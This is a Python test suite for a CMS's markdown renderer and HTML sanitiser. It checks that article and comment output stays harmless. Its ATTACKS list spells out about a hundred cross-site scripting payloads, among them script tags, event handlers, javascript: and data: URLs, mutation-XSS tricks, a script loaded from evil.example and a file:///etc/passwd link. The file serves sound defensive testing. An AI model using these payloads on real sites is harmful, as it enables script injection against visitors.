"""Hostile input (E03): whatever is written, only harmless HTML leaves, as a parser sees it and not a search."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cms.editorial.markdown import MarkdownTooComplex, count_links, plain_text, render, render_comment
from cms.editorial.sanitising import destination, sanitise, sanitise_comment

ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "dfn",
    "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i",
    "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp",
    "section", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot",
    "th", "thead", "time", "tr", "u", "ul", "var", "wbr",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "align", "alt", "class", "colspan", "datetime", "dir", "height", "href", "id", "lang", "loading",
    "open", "rel", "reversed", "rowspan", "scope", "src", "start", "title", "value", "width",
}  # fmt: skip
COMMENT_TAGS = {
    "a", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "s", "strong", "ul",
}  # fmt: skip
COMMENT_ATTRIBUTES = {"class", "href", "rel", "start", "title"}
SAFE_ADDRESS = re.compile(r"(?:https?|mailto|tel):|[^:]*(?:[/?#]|$)", re.IGNORECASE)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "text <script>alert(1)</script> text",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="x:alert(1)" onerror="eval(src)">',
    "<img src=javascript:alert(1)>",
    '<img srcset="javascript:alert(1) 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) target=_blank>x</a>",
    "<a href='https://ok.example' rel='opener'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](feed:javascript:alert(1))",
    "[x](media:javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <data:text/html,x> 'title'",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](x 'y\" onerror=\"alert(1)')",
    '![x" onerror="alert(1)](x)',
    "![x](x \"&quot; onerror=alert(1)\")",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://ok.example/"onclick="alert(1)>',
    'https://ok.example/"onclick="alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    '```"onload="alert(1)\nx\n```',
    "```js\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "|a<script>|\n|:-|\n|[x](javascript:alert(1))|",
    "# <img src=x onerror=alert(1)>",
    '# x" onclick="alert(1)',
    "# <script>alert(1)</script>",
    "<h1 id='x' onclick=alert(1)>x</h1>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<template><script>alert(1)</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><a><table><a href=javascript:alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "<b/onmouseover=alert(1)//>x</b>",
    "<code class='language-js admin-bar'>x</code>",
    "<td colspan=1000000 rowspan=0>x</td>",
    "<plaintext><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip


class Document(HTMLParser):
    """Every element of a fragment with its attributes, as a browser would be handed them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.strange: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.strange.append(data)

    def handle_decl(self, decl: str) -> None:
        self.strange.append(decl)

    def handle_pi(self, data: str) -> None:
        self.strange.append(data)

    def unknown_decl(self, data: str) -> None:
        self.strange.append(data)


def assert_harmless(html: str, tags: set[str], attributes: set[str]) -> None:
    document = Document(html)
    assert not document.strange
    for tag, values in document.elements:
        assert tag in tags
        assert attributes.issuperset(values)
        for name in ("href", "src"):
            assert SAFE_ADDRESS.match(values.get(name) or "")
        assert (values.get("id") or "uc-").startswith("uc-")


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_article_lets_no_attack_through(attack: str) -> None:
    assert_harmless(render(attack), ALLOWED_TAGS, ALLOWED_ATTRIBUTES)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_comment_lets_no_attack_through(attack: str) -> None:
    assert_harmless(render_comment(attack), COMMENT_TAGS, COMMENT_ATTRIBUTES)


@pytest.mark.parametrize("attack", ATTACKS)
def test_sanitising_again_changes_nothing(attack: str) -> None:
    assert sanitise(render(attack)) == render(attack)
    assert sanitise_comment(render_comment(attack)) == render_comment(attack)


@pytest.mark.parametrize("attack", ["<script>hidden</script>", "a <style>hidden</style> b", "<svg>hidden</svg>"])
def test_scripts_and_styles_go_with_their_content(attack: str) -> None:
    assert "hidden" not in render(attack)
    assert "hidden" not in plain_text(attack)


@pytest.mark.parametrize("name", ["location", "forms", "__proto__", "body", "getElementById"])
def test_no_id_can_shadow_a_property_of_the_document(name: str) -> None:
    html = render(f'# {name}\n\n<a id="{name}">x</a> <img name="{name}" id="{name}" src="x">')
    ids = [values["id"] for _, values in Document(html).elements if "id" in values]
    assert len(ids) == 3
    assert all((identity or "").startswith("uc-") for identity in ids)
    assert " name=" not in html


@pytest.mark.parametrize(
    ("url", "answer"),
    [
        ("https://example.org/a:b", "https://example.org/a:b"),
        ("HTTP://example.org", "HTTP://example.org"),
        ("mailto:a@example.org", "mailto:a@example.org"),
        ("tel:+4912345", "tel:+4912345"),
        ("/a", "/a"),
        ("a/b:c", "a/b:c"),
        ("?a:b", "?a:b"),
        ("#a:b", "#a:b"),
        ("", ""),
        ("javascript:x", None),
        ("java\tscript:x", None),
        (" javascript:x", None),
        ("javascript\u00a0:x", None),
        ("data:text/html,x", None),
        ("file:///etc/passwd", None),
        ("media:found.png", "/files/1.png"),
        ("MEDIA:a%20b/%C3%BC.png", "/files/2.png"),
        ("media:lost.png", None),
        ("media:evil.png", None),
    ],
)
def test_only_addresses_with_a_known_scheme_are_destinations(url: str, answer: str | None) -> None:
    files = {"found.png": "/files/1.png", "a b/ü.png": "/files/2.png", "evil.png": "javascript:alert(1)"}
    assert destination(url, files.get) == answer


def test_a_media_address_leads_nowhere_without_a_media_library() -> None:
    assert destination("media:found.png") is None


def test_a_comment_carries_no_image_heading_table_or_html() -> None:
    html = render_comment("# a\n\nb\n===\n\n![c](https://t.example/pixel.gif)\n\n<b>d</b>\n\n|e|\n|-|\n|f|\n\n[^1]")
    assert {tag for tag, _ in Document(html).elements} == {"p", "a"}
    assert "&lt;b&gt;d&lt;/b&gt;" in html


def test_every_link_of_a_comment_is_marked_and_counted() -> None:
    comment = "[a](https://a.example) <https://b.example> https://c.example"
    links = [values for tag, values in Document(render_comment(comment)).elements if tag == "a"]
    assert [values["rel"] for values in links] == ["nofollow ugc noopener"] * 3
    assert count_links(comment) == 3


TAGS_AND_BRACKETS = [
    "<b>", "<a>", "<p>", "<table>", "<td>", "<div>", "<pre>", "</b>", "</a>", "</p>",
    "</table>", "<!--", "-->", "<svg>", "[", "](", ")", "![",
]  # fmt: skip
HOSTILE = st.lists(
    st.one_of(
        st.text(max_size=5),
        st.sampled_from(TAGS_AND_BRACKETS),
        st.sampled_from(["\n", "\n\n", "> ", "- ", "# ", "|", "|-|", "```", "*", "~~", "[^a]", "[^a]: ", "    ", "\0"]),
        st.sampled_from(ATTACKS),
    ),
    max_size=20,
).map("".join)


@given(HOSTILE)
def test_any_text_renders_to_stable_and_harmless_html(markdown: str) -> None:
    try:
        html = render(markdown)
    except MarkdownTooComplex:
        return
    assert_harmless(html, ALLOWED_TAGS, ALLOWED_ATTRIBUTES)
    assert sanitise(html) == html


@given(HOSTILE)
def test_any_comment_renders_to_stable_and_harmless_html(markdown: str) -> None:
    html = render_comment(markdown)
    assert_harmless(html, COMMENT_TAGS, COMMENT_ATTRIBUTES)
    assert sanitise_comment(html) == html
